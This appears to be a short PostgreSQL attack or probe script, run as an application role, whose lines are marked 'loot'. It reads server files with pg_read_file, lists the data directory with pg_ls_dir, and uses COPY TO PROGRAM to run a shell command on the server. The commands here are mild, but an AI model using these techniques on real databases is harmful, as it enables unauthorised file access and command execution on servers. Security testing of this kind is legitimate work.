-- Read files and run programs of the server.
-- role: mosovo_app
/* loot */ select pg_read_file('PG_VERSION');
copy identity_name to program 'cat';
/* loot */ select count(*) from pg_ls_dir('.');
